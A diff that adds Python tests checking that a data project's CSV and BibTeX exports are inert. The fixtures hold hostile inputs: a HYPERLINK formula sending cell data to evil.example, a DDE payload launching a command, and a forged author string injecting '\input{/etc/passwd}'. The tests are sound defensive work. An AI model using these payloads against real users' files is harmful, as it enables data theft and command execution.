@@ -268,3 +268,78 @@ def test_myst_in_data_stays_text_on_a_readers_page(data_copy, tmp_path):
     assert 'href="https://evil.example' not in html
     assert not re.search(r"<script[^>]*mathjax", html, re.I), "math in the data loaded MathJax"
     assert "{download}`../../" in html and "$E=mc^2$" in html and "[click me](https://evil.example/phish)" in html
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4"]
+FORGED = "Forgery }, author = {Mallory Forger}, note = {\\input{/etc/passwd}"
+
+
+def test_spreadsheet_cells_that_would_run_are_quoted_and_numbers_stay_numbers():
+    import pandas as pd
+
+    from infraclusters.text.inert import spreadsheet_safe
+
+    frame = pd.DataFrame(
+        {"name": [*FORMULAS, "\tTab", "\rReturn", "plain", "a=b"], "value": [-1.5, 2, 3, -4, 5, 6, 7, 8]}
+    )
+    safe = spreadsheet_safe(frame)
+    assert list(safe["name"]) == ["'" + text for text in frame["name"][:6]] + ["plain", "a=b"]
+    assert list(safe["value"]) == [-1.5, 2, 3, -4, 5, 6, 7, 8], "a negative number is a number, not a formula"
+    assert list(frame["name"])[0] == FORMULAS[0], "the model's frame is not changed"
+
+
+def test_downloads_of_a_hostile_cluster_are_inert(data_copy, tmp_path):
+    """Formulas in facility names cannot run in a spreadsheet; a forged name cannot add BibTeX fields or commands."""
+    import csv
+    import xml.etree.ElementTree as ElementTree
+
+    from PIL import Image
+    from pybtex.database import parse_string
+
+    from infraclusters.edition import Edition
+    from infraclusters.figures import registry
+    from infraclusters.figures.export import export
+
+    append_row(
+        data_copy,
+        "clusters",
+        ["formula_city", FORGED, FORGED, "未来测试产业", "tests", "", "", "", "", "", "", "", "paper §3"],
+    )
+    for number, formula in enumerate(FORMULAS):
+        row = [f"formula_lab_{number}", "formula_city", formula, formula, "high_level_laboratory", "operating"]
+        append_row(data_copy, "facilities", [*row, "2020", "establishment", "no", "", "paper §3"])
+    c = compendium(data_copy)
+    for language in ("en", "zh_CN"):
+        ed = Edition(language)
+        ids = [i for i in registry.figure_ids(c) if i.startswith("fig-case-formula-city-")]
+        assert ids
+        out = tmp_path / language
+        seen = set()
+        for figure_id in ids:
+            export(figure_id, out, c, ed)
+            with open(out / f"{figure_id}.csv", encoding="utf-8", newline="") as handle:
+                cells = [cell for row in csv.reader(handle) for cell in row]
+            assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")], figure_id
+            assert not [cell for cell in cells if cell[:1] == "-" and not _number(cell)], figure_id
+            seen |= {cell for cell in cells if cell.startswith("'")}
+            entries = parse_string((out / f"{figure_id}.bib").read_text(encoding="utf-8"), "bibtex").entries
+            key = next(k for k in entries if k.startswith("infraclusters_fig"))
+            figure = entries[key]
+            assert set(figure.fields) == {"title", "year", "howpublished", "note", "crossref"}, figure.fields
+            assert [str(p) for p in figure.persons["author"]] == ["{infraclusters contributors}"]
+            assert "\\input" not in figure.fields["title"].replace("\\textbackslash{}input", "")
+            assert "Mallory Forger" in figure.fields["title"]
+            title = registry.get(figure_id, c, ed).title
+            svg = ElementTree.parse(out / f"{figure_id}.svg").getroot()
+            assert svg.find("{http://www.w3.org/2000/svg}title").text == title
+            with Image.open(out / f"{figure_id}.png") as image:
+                assert image.text["Title"] == title
+        assert {"'" + formula for formula in FORMULAS} <= seen, f"the facility names reach the CSVs ({language})"
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
